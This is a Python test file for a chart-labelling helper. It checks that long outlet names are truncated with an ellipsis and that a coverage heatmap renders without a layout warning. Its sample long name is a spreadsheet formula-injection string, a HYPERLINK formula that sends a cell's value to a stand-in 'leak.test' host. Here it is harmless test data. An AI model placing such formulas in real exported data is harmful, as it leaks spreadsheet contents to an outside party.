"""Long outlet names as tick labels: cut with "…" so the chart keeps its layout (no matplotlib
warning in a report), the full name staying in the tables."""

from __future__ import annotations

import warnings

import matplotlib.pyplot as plt
import pandas as pd

from helpers.attention import coverage_grid
from helpers.plots import use_style
from helpers.plots.coverage import coverage_grid_heatmap
from helpers.plots.style import MAX_LABEL_CHARS, short_label

LONG = '=HYPERLINK("http://leak.test/?"&A1,"Daily Formula") and a much longer tail of words'


def test_short_label_cuts_long_names_only():
    assert short_label("JTA") == "JTA"
    cut = short_label(LONG)
    assert len(cut) == MAX_LABEL_CHARS and cut.endswith("\u2026") and LONG.startswith(cut[:-1])


def test_a_long_outlet_name_draws_the_coverage_grid_without_a_layout_warning():
    with plt.rc_context():  # the house style for this test only: other tests read matplotlib's defaults
        use_style()
        _draw_with_a_long_name()


def _draw_with_a_long_name():
    events = pd.DataFrame(dict(article_id=["a", "b", "c"], outlet=[LONG, "JTA", "JTA"], event=[0, 0, 1],
                               event_label=["1 May 2024", "1 May 2024", "3 May 2024"]))
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # "Tight layout not applied" would fail here
        ax = coverage_grid_heatmap(coverage_grid(events))
        ax.figure.canvas.draw()
    labels = [" ".join(t.get_text().split()) for t in ax.get_xticklabels()]  # wrapped to the column's width
    assert short_label(LONG) in labels and "JTA" in labels
    plt.close("all")
